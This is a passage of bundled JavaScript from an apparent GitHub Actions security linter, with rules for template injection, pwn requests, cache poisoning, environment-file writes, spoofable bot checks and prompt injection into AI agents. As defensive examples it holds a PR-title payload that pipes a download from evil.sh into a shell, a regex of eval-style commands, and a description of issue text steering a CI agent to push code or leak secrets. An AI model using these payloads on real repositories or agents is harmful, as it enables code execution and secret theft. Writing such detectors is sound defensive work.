  if (/^python/.test(shell)) return `os.environ["${name}"]`;
  return `"$${name}"`;
}
function reachOf(job) {
  const grant = tokenGrant(job);
  const secrets = secretsUsed(job);
  const parts = [];
  let level = "none";
  if (grant.writeAll) parts.push("a write-all token");
  else if (grant.writeScopes.length > 0) parts.push(`a token with ${grant.writeScopes.map((s) => `${s}: write`).join(", ")}`);
  else if (grant.source === "default") parts.push("a token with the repository default permissions (read/write on older repositories)");
  if (secrets.length > 0) parts.push(secrets.includes("*") ? "all the repository secrets" : `secrets ${secrets.join(", ")}`);
  if (grant.writeAll || grant.writeScopes.length > 0 || secrets.length > 0) level = "write";
  else if (grant.source === "default") level = "default";
  else if (grant.permissions && grant.permissions.form !== "empty" && grant.permissions.scopes.size > 0) level = "read";
  else if (grant.permissions?.form === "read-all") level = "read";
  return { text: parts.join(" and ") || (level === "read" ? "a read-only token" : "no token scopes and no secrets"), level, secrets };
}
function stepLabel(step) {
  const name = step.name?.value ?? step.id?.value ?? step.uses?.raw.trim();
  const where = step.job ? `job ${step.job.id}, ` : "";
  return `${where}step ${step.index + 1}${name ? ` (${name.length > 60 ? `${name.slice(0, 57)}...` : name})` : ""}`;
}
function eachStep(model, visit) {
  for (const workflow of model.workflows) for (const job of workflow.jobs) for (const step of job.steps) visit(workflow, job, step);
  for (const action of model.actions) for (const step of action.runs?.steps ?? []) visit(action, null, step);
}

// src/rules/build/template-injection.ts
var CODE_INPUTS = byAction(CODE_INPUT_ACTIONS);
function sinksOf(step) {
  const sinks = [];
  if (step.run && step.run.expressions.length > 0) sinks.push({ str: step.run, step, label: "run", language: "shell" });
  const code = step.uses ? CODE_INPUTS.get(step.uses.name) : void 0;
  if (code) {
    for (const [name, entry2] of step.with) {
      if (code.inputs.includes(name.toLowerCase()) && entry2.value && entry2.value.expressions.length > 0) {
        sinks.push({ str: entry2.value, step, label: `${step.uses.name} ${name}`, language: code.language });
      }
    }
  }
  return sinks;
}
function describeTaint(taint) {
  const via = taint.via.length > 0 ? ` (via ${taint.via.join(" \u2192 ")})` : "";
  return `${taint.origin}${via}`;
}
function injectionGrade(taint, workflow, job, model) {
  if (!workflow || !job) {
    if (taint.level === "arbitrary") return { grade: "high", why: "in an action that any workflow may call" };
    return { grade: "low", why: "from an action input: safe only if every caller passes trusted values" };
  }
  let privileged = privilegedUntrustedEvents(workflow, model);
  const events = eventNames(workflow);
  const reusable = events.has("workflow_call");
  const carriers = eventsCarrying(taint.origin);
  let outsiders = forkReachable(workflow);
  if (carriers && !reusable && events.size > 0) {
    const relevant = [...events].filter((event) => carriers.has(event));
    if (relevant.length === 0) return { grade: "info", why: `${taint.origin} is empty on ${[...events].join(", ")}` };
    privileged = privileged.filter((event) => carriers.has(event));
    outsiders = relevant.some((event) => FORK_REACHABLE_EVENTS.has(event));
  }
  if (taint.level === "arbitrary") {
    if (privileged.length > 0) {
      const reach = reachOf(job);
      return reach.level === "write" || reach.level === "default" ? { grade: "critical", why: `on ${privileged.join(", ")}, with ${reach.text}` } : { grade: "high", why: `on ${privileged.join(", ")} (runs in the base repository's context)` };
    }
    if (reusable) return { grade: "high", why: "in a reusable workflow, with its caller's event and privileges" };
    if (outsiders) return { grade: "medium", why: "on events from outsiders that run with a read-only token and no secrets" };
    if (/commit|message|author|committer|display_title/.test(taint.origin)) return { grade: "medium", why: "commit messages and authors come from merged contributions" };
    return { grade: "low", why: "the workflow is not triggered by outsiders" };
  }
  if (taint.level === "structured") {
    if (privileged.length > 0 || reusable) return { grade: "medium", why: "attacker-influenced but constrained, or needs write access to set" };
    if (outsiders) return { grade: "low", why: "attacker-influenced but constrained" };
    return { grade: "info", why: "set only by users with write access (branch and tag names can still hold shell syntax)" };
  }
  if (taint.level === "dynamic") return { grade: "low", why: taint.origin.startsWith("github.") ? "(an event field without capability data: check whether outsiders can set it)" : "(a matrix value computed at run time)" };
  if (reusable) return { grade: "low", why: "a reusable-workflow input: safe only if every caller passes trusted values" };
  return { grade: "info", why: "a workflow_dispatch input: only users with write access can set it" };
}
function fixFor2(expression, taint, sink) {
  const direct = /^env\.([A-Za-z_][A-Za-z0-9_]*)$/i.exec(expression.body.trim());
  if (direct) {
    return `${sink.label.replace(/^.*\s(\S+)$/, "$1")}: \u2026 ${envReference(direct[1], sink.step.effectiveShell, sink.language)} \u2026   # instead of \${{ ${expression.body.trim()} }}`;
  }
  const path6 = taint.via.length > 0 ? taint.via[taint.via.length - 1] ?? taint.origin : taint.origin;
  const name = envVarName(/^(steps|needs|env)\./.test(path6) || /^github\.|^inputs\.|^matrix\./.test(path6) ? path6 : expression.body.trim());
  const text = `\${{ ${expression.body.trim()} }}`;
  const reference = envReference(name, sink.step.effectiveShell, sink.language);
  return [`env:`, `  ${name}: ${text}`, `${sink.label.replace(/^.*\s(\S+)$/, "$1")}: \u2026 ${reference} \u2026   # instead of ${text}`].join("\n");
}
var EVALUATING = /^(?:eval\b|(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-c\b|pwsh\s+(?:-\w+\s+)*-c(?:ommand)?\b|powershell\s+(?:-\w+\s+)*-c(?:ommand)?\b|Invoke-Expression\b|iex\b|(?:source|\.)\s+<\()/i;
function shellEvaluations(model) {
  const tracker = trackerFor(model);
  const out = [];
  const report = (step, taint, location, text, where) => {
    const job = step.job;
    const { grade: grade2, why } = injectionGrade(taint, job?.workflow ?? null, job, model);
    out.push({
      status: "fail",
      severity: job ? applyGates(grade2, gatesFor(job, step)) : grade2,
      message: `${stepLabel(step)}${where}: \`${text.length > 60 ? `${text.slice(0, 57)}...` : text}\` evaluates ${describeTaint(taint)} as code (${why.replace(/^\((.*)\)$/, "$1")})`,
      ...location ? { location } : {},
      fix: 'Do not eval untrusted data: pass it as an argument ("$VAR") to a fixed command.'
    });
  };
  const steps = [];
  for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps);
  for (const action of model.actions) steps.push(...action.runs?.steps ?? []);
  for (const step of steps) {
    if (!step.run) continue;
    const site = { job: step.job, step, action: step.action };
    for (const command of commands(step.run.value)) {
      if (!EVALUATING.test(command.text)) continue;
      const taint = tracker.shellTaint(step, step.run.value, command.start, command.text, site);
      if (taint) report(step, taint, strLocation(stepDoc(step), step.run, command.start, command.end), command.text, "");
    }
  }
  for (const script of model.scripts.values()) {
    const evaluating = commands(script.text).filter((command) => EVALUATING.test(command.text));
    for (const step of script.callers) {
      for (const command of evaluating) {
        const taint = tracker.shellTaint(step, script.text, command.start, command.text, { job: step.job, step, action: step.action });
        if (taint) report(step, taint, scriptLocation(script, command.start, command.end), command.text, ` (through ${script.path})`);
      }
    }
  }
  return out;
}
var templateInjection = defineWorkflowRule({
  meta: {
    id: "template-injection",
    area: "build",
    severity: "high",
    title: "Attacker-controlled text expanded into code",
    rationale: "`${{ }}` is substituted into the script before it runs, so a pull request title like `\"; curl evil.sh | sh #` becomes code with the job's token and secrets. Passing the value through an environment variable makes it data.",
    remediation: 'Move the expression into `env:` and use the variable (`"$PR_TITLE"`, `process.env.PR_TITLE`) in the script.',
    references: ["zizmor: template-injection", "https://docs.github.com/en/actions/concepts/security/script-injections", "CWE-94"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    eachStep(model, (doc, job, step) => {
      for (const sink of sinksOf(step)) {
        for (const expression of sink.str.expressions) {
          const taint = tracker.expressionTaint(expression, { job, step, action: doc.kind === "action" ? doc : null });
          if (!taint) continue;
          const { grade: grade2, why } = injectionGrade(taint, doc.kind === "workflow" ? doc : null, job, model);
          const gates = job ? gatesFor(job, step) : [];
          const severity = applyGates(grade2, gates);
          const gated = gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : "";
          results.push({
            status: "fail",
            severity,
            message: `${stepLabel(step)}: \`\${{ ${expression.body.trim()} }}\` expands ${taint.level === "arbitrary" ? "attacker-controlled text" : taint.level === "input" ? "an input" : "partly attacker-influenced text"} from ${describeTaint(taint)} into \`${sink.label}\` (${why.replace(/^\((.*)\)$/, "$1")})${gated}`,
            location: expressionLocation(doc, expression),
            fix: fixFor2(expression, taint, sink)
          });
        }
      }
    });
    results.push(...shellEvaluations(model));
    return dedupeResults(results);
  }
});

// src/rules/build/dangerous-triggers.ts
var DANGEROUS = /* @__PURE__ */ new Set(["pull_request_target", "workflow_run"]);
var dangerousTriggers = defineWorkflowRule({
  meta: {
    id: "dangerous-triggers",
    area: "build",
    severity: "medium",
    title: "Privileged trigger that outsiders can fire",
    rationale: "`pull_request_target` and `workflow_run` run with the base repository's token and secrets on events a fork can cause. They are safe only while the workflow never handles the pull request's code or text.",
    remediation: "Prefer `pull_request`. Keep `pull_request_target` / `workflow_run` jobs free of PR code, with `permissions: {}` or the minimum, and gate anything sensitive behind an environment with reviewers.",
    references: ["zizmor: dangerous-triggers", "https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    for (const workflow of model.workflows) {
      for (const trigger of workflow.triggers) {
        if (!DANGEROUS.has(trigger.event)) continue;
        let grade2 = "info";
        let why = "no job reaches write scopes or secrets";
        if (trigger.event === "workflow_run" && !workflowRunReachable(trigger.filters.get("workflows") ?? [], model)) {
          results.push({
            status: "fail",
            severity: "info",
            message: `workflow_run after ${(trigger.filters.get("workflows") ?? []).join(", ")}, which forks cannot trigger`,
            location: nodeLocation(workflow, trigger.node)
          });
          continue;
        }
        const jobs = workflow.jobs.filter((job) => !blocksForks(gatesFor(job)));
        let decided = false;
        const consider = (candidate, reason, gates) => {
          const gated = applyGates(candidate, gates);
          if (decided && maxGrade(grade2, gated) === grade2) return;
          decided = true;
          grade2 = gated;
          why = `${reason}${gated !== candidate ? `; lowered because ${gates.map((gate) => gate.note).join(", ")}` : ""}`;
        };
        for (const job of jobs) {
          const gates = gatesFor(job);
          const checkouts = untrustedCheckouts(job, tracker);
          if (checkouts.some((checkout) => executionsAfter(job, checkout.step, checkout.path).length > 0)) {
            consider("high", `job ${job.id} checks out and runs the pull request's code (see pwn-request)`, gates);
            continue;
          }
          if (checkouts.length > 0) {
            consider("medium", `job ${job.id} checks out the pull request's code (see untrusted-checkout)`, gates);
            continue;
          }
          const reach = reachOf(job);
          if (reach.level === "write" || reach.level === "default") consider("low", `job ${job.id} has ${reach.text}, but does not check out the pull request`, []);
        }
        if (jobs.length === 0 && workflow.jobs.length > 0) why = "every job requires the pull request to come from this repository";
        results.push({
          status: "fail",
          severity: grade2,
          message: `${trigger.event} runs in the base repository's context on events from forks: ${why}`,
          location: nodeLocation(workflow, trigger.node)
        });
      }
    }
    return results;
  }
});

// src/rules/build/pwn-request.ts
function checkoutLocation(workflow, checkout) {
  if (checkout.str) return strLocation(workflow, checkout.str, checkout.start, checkout.end);
  return nodeLocation(workflow, checkout.step.uses?.node ?? checkout.step.node);
}
function executionLine(workflow, execution) {
  const location = execution.str ? strLocation(workflow, execution.str, execution.start, execution.end) : nodeLocation(workflow, execution.step.uses?.node ?? execution.step.node);
  return location.startLine;
}
function reachGrade(job) {
  const reach = reachOf(job);
  const grant = tokenGrant(job);
  if (reach.level === "write" || grant.idToken) {
    return { grade: "critical", reach: `${reach.text}${grant.idToken && !grant.writeAll ? " (including id-token: write, so cloud and registry identities)" : ""}` };
  }
  if (reach.level === "default") return { grade: "high", reach: `${reach.text}; critical if that default is read/write` };
  return { grade: "medium", reach: `${reach.text}; the runner can still poison the base branch's Actions cache and read the job's data` };
}
var pwnRequest = defineWorkflowRule({
  meta: {
    id: "pwn-request",
    area: "build",
    severity: "critical",
    title: "Untrusted pull request code runs in a privileged workflow",
    rationale: "On `pull_request_target`, `issue_comment` and `workflow_run`, the workflow runs with the base repository's token and secrets. Checking out the pull request and then running its build (npm install, make, a local script) hands those to whoever opened it.",
    remediation: "Run untrusted code only on `pull_request` (no secrets, read-only token). If a privileged step is needed, split it into a `workflow_run` job that never executes PR code, or gate it on a same-repository check or an environment with required reviewers, and grant the job `permissions: {}`.",
    references: [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "poutine: untrusted_checkout_exec",
      "Scorecard: Dangerous-Workflow",
      "SLSA Build L3"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    for (const workflow of model.workflows) {
      const events = privilegedUntrustedEvents(workflow, model);
      if (events.length === 0) continue;
      for (const job of workflow.jobs) {
        for (const checkout of untrustedCheckouts(job, tracker)) {
          const executions = executionsAfter(job, checkout.step, checkout.path);
          const first = executions[0];
          if (!first) continue;
          const { grade: grade2, reach } = reachGrade(job);
          const gates = gatesFor(job, checkout.step);
          const severity = applyGates(grade2, gates);
          const more = executions.length > 1 ? ` (and ${executions.length - 1} more)` : "";
          const what2 = checkout.kind === "artifact" ? "artifact poisoning" : "pwn request";
          results.push({
            status: "fail",
            severity,
            message: `${what2}: ${events.join("/")} \u2192 ${stepLabel(checkout.step)} ${checkout.what} \u2192 ${stepLabel(first.step)} runs ${first.what} at line ${executionLine(workflow, first)}${more} \u2192 the attacker's code gets ${reach}${gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : ""}`,
            location: checkoutLocation(workflow, checkout),
            fix: "permissions: {}   # on this job; and move the build to a `pull_request` workflow, or add `if: github.event.pull_request.head.repo.full_name == github.repository`"
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/untrusted-checkout.ts
var untrustedCheckout = defineWorkflowRule({
  meta: {
    id: "untrusted-checkout",
    area: "build",
    severity: "medium",
    title: "Pull request code checked out in a privileged workflow",
    rationale: "The pull request's files land in a workspace that runs with the base repository's token and secrets. Any tool that later reads them (a linter config, `.npmrc`, a git hook, an action from `./`) can run the attacker's code.",
    remediation: "Check out the pull request only in `pull_request` workflows. If the privileged workflow must read PR files, check them out into a separate `path:`, never execute or source anything from it, and set `persist-credentials: false`.",
    references: ["Scorecard: Dangerous-Workflow (untrusted checkout)", "poutine: untrusted_checkout_exec", "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    for (const workflow of model.workflows) {
      const events = privilegedUntrustedEvents(workflow, model);
      if (events.length === 0) continue;
      for (const job of workflow.jobs) {
        for (const checkout of untrustedCheckouts(job, tracker)) {
          if (executionsAfter(job, checkout.step, checkout.path).length > 0) continue;
          const reach = reachOf(job);
          const base = reach.level === "write" || reach.level === "default" ? "medium" : "low";
          const gates = gatesFor(job, checkout.step);
          const isolated = checkout.path ? ` into ${checkout.path}/` : "";
          results.push({
            status: "fail",
            severity: applyGates(base, gates),
            message: `${stepLabel(checkout.step)} ${checkout.what}${isolated} on ${events.join("/")}, in a job with ${reach.text}; no step visibly runs it, but any tool reading those files can${gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : ""}`,
            location: checkoutLocation(workflow, checkout)
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/cache-poisoning.ts
function cacheWriters(model, elsewhere) {
  const tracker = trackerFor(model);
  const out = new Set(model.workflows.filter((workflow) => runsUntrustedCode(workflow, model, tracker)).map((workflow) => workflow.path));
  for (const path6 of elsewhere) out.add(path6);
  return [...out].sort();
}
function fixFor3(what2) {
  if (/^actions\/setup-/.test(what2)) return "cache: ''   # no cache in release jobs";
  if (/^actions\/cache/.test(what2)) return "Remove the cache step from release jobs (or use actions/cache/save only, never restore).";
  if (/setup-go/.test(what2)) return "cache: false";
  if (/setup-uv/.test(what2)) return "enable-cache: false";
  if (/setup-ruby/.test(what2)) return "bundler-cache: false";
  if (/gradle/.test(what2)) return "cache-disabled: true";
  return "Do not restore caches in jobs that build or publish releases.";
}
var cachePoisoning = defineWorkflowRule({
  meta: {
    id: "cache-poisoning",
    area: "build",
    severity: "medium",
    title: "Cache restored in a release or publishing job",
    rationale: "Caches are shared across workflows of a branch. Code an outsider gets to run in the default branch's scope (a pwn request, an injection) can plant a cache entry that a later release job restores and ships.",
    remediation: "Build releases from a clean state: disable caching in jobs that publish (and in the jobs that build what they publish).",
    references: ["zizmor: cache-poisoning", "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/", "SLSA Build L3 (isolated builds)"],
    access: { token: "none" }
  },
  uses: [cacheWritersFact],
  defaultOptions: {},
  model(model, ctx) {
    const results = [];
    let writers = null;
    for (const workflow of model.workflows) {
      const publishing = workflow.jobs.map((job) => ({ job, evidence: publishingSteps(job) })).filter((entry2) => entry2.evidence.length > 0);
      if (publishing.length === 0) continue;
      const atRisk = /* @__PURE__ */ new Map();
      for (const { job, evidence } of publishing) {
        atRisk.set(job, `publishes (${evidence[0].what})`);
        for (const upstream of ancestors(job)) if (!atRisk.has(upstream)) atRisk.set(upstream, `builds for job ${job.id}, which publishes (${evidence[0].what})`);
      }
      for (const [job, why] of atRisk) {
        for (const cache of cacheRestores(job)) {
          if (!writers) {
            const elsewhere = ctx.fact(cacheWritersFact);
            writers = cacheWriters(model, elsewhere.known ? elsewhere.value : []);
          }
          const exposed = writers.filter((path6) => path6 !== workflow.path || privilegedUntrustedEvents(workflow, model).length > 0);
          const severity = exposed.length > 0 ? "high" : "medium";
          results.push({
            status: "fail",
            severity,
            message: `job ${job.id} ${why} and restores a cache (${cache.what})${exposed.length > 0 ? `; outsiders can already run code in this repository's cache scope through ${exposed.slice(0, 3).join(", ")}${exposed.length > 3 ? ` and ${exposed.length - 3} more` : ""}` : ""}`,
            location: nodeLocation(workflow, cache.input?.node ?? cache.step.uses?.node ?? cache.step.node),
            fix: fixFor3(cache.what)
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/github-env.ts
var TARGETS = /* @__PURE__ */ new Set(["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT"]);
function grade(taint, file, step, model) {
  const job = step.job;
  const base = injectionGrade(taint, job?.workflow ?? null, job, model).grade;
  const byFile = file === "GITHUB_OUTPUT" ? lower(base) : base;
  return job ? applyGates(byFile, gatesFor(job, step)) : byFile;
}
function message(file, step, taint, where) {
  const via = taint.via.length > 0 ? ` via ${taint.via.join(" \u2192 ")}` : "";
  const effect = file === "GITHUB_OUTPUT" ? "a newline in it can set other step outputs" : file === "GITHUB_PATH" ? "it can put an attacker-chosen directory first on PATH for every later step" : "a newline in it can set any environment variable (BASH_ENV, NODE_OPTIONS, LD_PRELOAD...) for every later step";
  return `${stepLabel(step)}${where}: writes ${taint.origin}${via} to $${file}; ${effect}`;
}
var githubEnv = defineWorkflowRule({
  meta: {
    id: "github-env",
    area: "build",
    severity: "high",
    title: "Untrusted data written to GITHUB_ENV, GITHUB_PATH or GITHUB_OUTPUT",
    rationale: "The runner reads `$GITHUB_ENV` and `$GITHUB_PATH` line by line: attacker text with a newline defines extra variables such as `BASH_ENV` or `NODE_OPTIONS`, or a PATH entry, and the next step runs the attacker's code with the job's token and secrets.",
    remediation: 'Do not write untrusted text to environment files. Pass it to later steps through `env:` on those steps, or validate it strictly (e.g. `[[ "$X" =~ ^[A-Za-z0-9._-]+$ ]]`) and use a random heredoc delimiter for multi-line values.',
    references: ["zizmor: github-env", "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#environment-files", "CWE-94"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    const steps = [];
    for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps);
    for (const action of model.actions) steps.push(...action.runs?.steps ?? []);
    for (const step of steps) {
      const run = step.run;
      if (!run) continue;
      const site = { job: step.job, step, action: step.action };
      const doc = step.job ? step.job.workflow : step.action;
      for (const write of envFileWrites(run.value)) {
        if (!TARGETS.has(write.file)) continue;
        const shellTaint = tracker.shellTaint(step, run.value, write.command.start, write.command.text, site);
        if (!shellTaint) continue;
        const location = strLocation(doc, run, write.command.start, write.command.end);
        results.push({
          status: "fail",
          severity: grade(shellTaint, write.file, step, model),
          message: message(write.file, step, shellTaint, ""),
          location,
          fix: write.file === "GITHUB_OUTPUT" ? "Validate the value before writing it, or pass the original expression to the consumer through env:" : "Pass the value to the steps that need it with `env:` instead of $GITHUB_ENV, or validate it first."
        });
      }
    }
    for (const script of model.scripts.values()) {
      const writes = envFileWrites(script.text).filter((write) => TARGETS.has(write.file));
      if (writes.length === 0) continue;
      for (const step of script.callers) {
        const site = { job: step.job, step, action: step.action };
        for (const write of writes) {
          const taint = tracker.shellTaint(step, script.text, write.command.start, write.command.text, site);
          if (!taint) continue;
          results.push({
            status: "fail",
            severity: grade(taint, write.file, step, model),
            message: message(write.file, step, taint, ` (through ${script.path})`),
            location: scriptLocation(script, write.command.start, write.command.end)
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/unsound-condition.ts
function isUnsound(condition) {
  const expressions = condition.expressions;
  if (expressions.length === 0) return false;
  if (expressions.length === 1 && expressions[0].valueStart === 0 && expressions[0].valueEnd === condition.value.length) return false;
  return true;
}
function fixFor4(condition) {
  const bodies = condition.expressions.map((expression) => expression.body.trim());
  const rest = condition.value.replace(/\$\{\{[\s\S]*?\}\}/g, "").trim();
  if (bodies.length === 1 && rest === "") return `if: \${{ ${bodies[0]} }}   # no text or newline around it (use |- or a plain scalar)`;
  const joined = condition.value.replace(/\$\{\{\s*([\s\S]*?)\s*\}\}/g, "($1)").replace(/\s+/g, " ").trim();
  return `if: ${joined}   # one expression, without \${{ }} around parts of it`;
}
var unsoundCondition = defineWorkflowRule({
  meta: {
    id: "unsound-condition",
    area: "build",
    severity: "high",
    title: "`if:` condition that is always true",
    rationale: "When an `if:` holds `${{ }}` plus any other text, GitHub evaluates it as a string, and a non-empty string is true: the guard (often a security check) never stops anything.",
    remediation: "Write the condition as one expression: either with no `${{ }}` at all, or with a single `${{ }}` that spans the whole value (use `|-` or a plain scalar, not `|`).",
    references: ["zizmor: unsound-condition", "actionlint: if-cond", "poutine: if_always_true"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const check = (doc, condition, where) => {
      if (!condition || !isUnsound(condition)) return;
      const trailing = /\n\s*$/.test(condition.value) && condition.expressions.length === 1 ? " (the `|` block keeps a trailing newline)" : "";
      results.push({
        status: "fail",
        message: `${where}: \`if:\` mixes \${{ }} with other text${trailing}, so it is a non-empty string and always true`,
        location: nodeLocation(doc, condition.node),
        fix: fixFor4(condition)
      });
    };
    const steps = (doc, list, prefix) => {
      for (const step of list) check(doc, step.if, `${prefix}step ${step.index + 1}`);
    };
    for (const workflow of model.workflows) {
      for (const job of workflow.jobs) {
        check(workflow, job.if, `job ${job.id}`);
        steps(workflow, job.steps, `job ${job.id}, `);
      }
    }
    for (const action of model.actions) steps(action, action.runs?.steps ?? [], "");
    return dedupeResults(results);
  }
});

// src/rules/build/bot-conditions.ts
var SPOOFABLE = /* @__PURE__ */ new Set(["github.actor", "github.triggering_actor", "github.event.sender.login"]);
var PR_EVENTS = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment", "workflow_run", "issue_comment", "check_suite", "check_run", "merge_group"];
function isBotLiteral(node) {
  return node.kind === "literal" && typeof node.value === "string" && /\[bot\]$/i.test(node.value);
}
function botChecks(node, negated = false, out = []) {
  if (!node) return out;
  switch (node.kind) {
    case "not":
      botChecks(node.operand, !negated, out);
      break;
    case "binary": {
      if (node.op === "==" || node.op === "!=") {
        const positive = node.op === "==" !== negated;
        const [a, b] = [node.left, node.right];
        for (const [side, other] of [[a, b], [b, a]]) {
          if (positive && side.kind === "context" && SPOOFABLE.has(side.path) && isBotLiteral(other)) out.push(side);
        }
      } else {
        botChecks(node.left, negated, out);
        botChecks(node.right, negated, out);
      }
      break;
    }
    case "call": {
      if (!negated && ["contains", "startswith", "endswith"].includes(node.name) && node.args.length === 2) {
        const [haystack, needle] = node.args;
        if (haystack.kind === "context" && SPOOFABLE.has(haystack.path) && needle.kind === "literal" && /bot/i.test(String(needle.value))) out.push(haystack);
      }
      break;
    }
    default:
      break;
  }
  return out;
}
function rewrite(condition, expression, node, replacement) {
  const offset = expression.valueStart + (expression.bare ? 0 : 3);
  const value = condition.value;
  const rewritten = `${value.slice(0, offset + node.start)}${replacement}${value.slice(offset + node.end)}`.trim();
  return `if: ${/^[!&*{[|>'"%@`]/.test(rewritten) || /: /.test(rewritten) ? JSON.stringify(rewritten) : rewritten}`;
}
function alsoChecksAuthor(condition) {
  return /pull_request\.user\.login\s*==/.test(condition.value);
}
var botConditions = defineWorkflowRule({
  meta: {
    id: "bot-conditions",
    area: "build",
    severity: "high",
    title: "Spoofable bot check on github.actor",
    rationale: "`github.actor` is whoever triggered the latest event. When Dependabot (or another bot) updates an attacker's pull request, the actor becomes the bot and a check like `github.actor == 'dependabot[bot]'` lets the attacker's code through, often into an auto-merge.",
    remediation: "Check the pull request's author instead: `github.event.pull_request.user.login == 'dependabot[bot]'`.",
    references: ["zizmor: bot-conditions", "poutine: confused_deputy_auto_merge", "https://docs.github.com/en/code-security/dependabot/troubleshooting-dependabot/troubleshooting-dependabot-on-github-actions"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const check = (workflow, condition, where, severity) => {
      if (!condition || alsoChecksAuthor(condition)) return;
      for (const expression of conditionExpressions(workflow.file, condition)) {
        for (const node of botChecks(expression.ast)) {
          results.push({
            status: "fail",
            severity,
            message: `${where}: \`${node.path}\` is checked against a bot login; it names whoever triggered the latest event, so an attacker's pull request touched by the bot passes`,
            location: locate(workflow.file, refSpan(workflow, condition, expression, node)),
            fix: rewrite(condition, expression, node, "github.event.pull_request.user.login")
          });
        }
      }
    };
    for (const workflow of model.workflows) {
      const events = eventNames(workflow);
      if (!PR_EVENTS.some((event) => events.has(event))) continue;
      const severity = privilegedUntrustedEvents(workflow, model).length > 0 ? "high" : "medium";
      for (const job of workflow.jobs) {
        check(workflow, job.if, `job ${job.id}`, severity);
        for (const step of job.steps) check(workflow, step.if, `job ${job.id}, step ${step.index + 1}`, severity);
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/unsound-contains.ts
function fixFor5(literal, needle) {
  const items2 = literal.split(/[\s,;|]+/).filter(Boolean).map((item) => `"${item.replace(/"/g, '\\"')}"`);
  return `contains(fromJSON('[${items2.join(", ")}]'), ${needle})`;
}
function whoChooses(path6) {
  if (path6 === "") return null;
  const capability = capabilityOf(path6);
  if (capability === "arbitrary" || /(^|\.)(head_ref|head_branch|actor|triggering_actor|login)$|\.head\.(ref|label)$/.test(path6)) return "outsiders";
  if (path6.startsWith("github.") && /^github\.(ref|ref_name|base_ref)$|\.(ref|branch)$/.test(path6)) return "writers";
  return null;
}
var unsoundContains = defineWorkflowRule({
  meta: {
    id: "unsound-contains",
    area: "build",
    severity: "high",
    title: "contains() on a string used as a membership check",
    rationale: "`contains('main,release', github.ref_name)` is a substring test: `mai`, `n,rel` or any substring of the list passes. When the value is attacker-chosen (a branch name, an actor login), the check can be bypassed.",
    remediation: 'Use a list: `contains(fromJSON(\'["main", "release"]\'), github.ref_name)`, or compare with `==`.',
    references: ["zizmor: unsound-contains", "https://docs.github.com/en/actions/reference/workflows-and-actions/expressions#contains"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const check = (doc, condition, where) => {
      if (!condition) return;
      for (const expression of conditionExpressions(doc.file, condition)) {
        walkExpression(expression.ast, (node) => {
          if (node.kind !== "call" || node.name !== "contains" || node.args.length !== 2) return;
          const [haystack, needle] = node.args;
          if (haystack.kind !== "literal" || typeof haystack.value !== "string" || needle.kind === "literal") return;
          const path6 = needle.kind === "context" ? needle.path : "";
          const chooser = whoChooses(path6);
          const severity = chooser === "outsiders" ? "high" : "medium";
          const needleText = expression.body.slice(needle.start, needle.end);
          results.push({
            status: "fail",
            severity,
            message: `${where}: contains('${haystack.value}', ${needleText}) tests for a substring, so any part of '${haystack.value}' passes${chooser === "outsiders" ? `, and ${needleText} can be chosen by an attacker` : chooser === "writers" ? `, and anyone who can push a branch or tag chooses ${needleText}` : ""}`,
            location: locate(doc.file, refSpan(doc, condition, expression, node)),
            fix: rewrite(condition, expression, node, fixFor5(haystack.value, needleText))
          });
        });
      }
    };
    const steps = (doc, list, prefix) => {
      for (const step of list) check(doc, step.if, `${prefix}step ${step.index + 1}`);
    };
    for (const workflow of model.workflows) {
      for (const job of workflow.jobs) {
        check(workflow, job.if, `job ${job.id}`);
        steps(workflow, job.steps, `job ${job.id}, `);
      }
    }
    for (const action of model.actions) steps(action, action.runs?.steps ?? [], "");
    return dedupeResults(results);
  }
});

// src/rules/build/prompt-injection.ts
var PROMPT_INPUTS = new Map(AI_AGENT_ACTIONS.map((entry2) => [entry2.action, entry2.inputs]));
var promptInjection = defineWorkflowRule({
  meta: {
    id: "prompt-injection",
    area: "build",
    severity: "high",
    title: "Attacker-controlled text expanded into an AI agent prompt",
    rationale: "An AI agent running in a workflow follows the instructions in its prompt with the tools and credentials the job gives it. Text from an issue, a comment or a pull request expanded into the prompt lets its author instruct the agent: change code, push, comment, or leak the secrets it can read.",
    remediation: "Do not expand event text into a prompt: have the agent read it from a file as data, give it only the tools the task needs, run the job with read-only `permissions:` and no secrets but the model key, and treat its output as untrusted.",
    references: [
      "CWE-1427",
      "OWASP LLM01: Prompt Injection",
      "CodeQL: actions/prompt-injection (experimental)",
      "https://docs.github.com/en/actions/concepts/security/script-injections"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    eachStep(model, (doc, job, step) => {
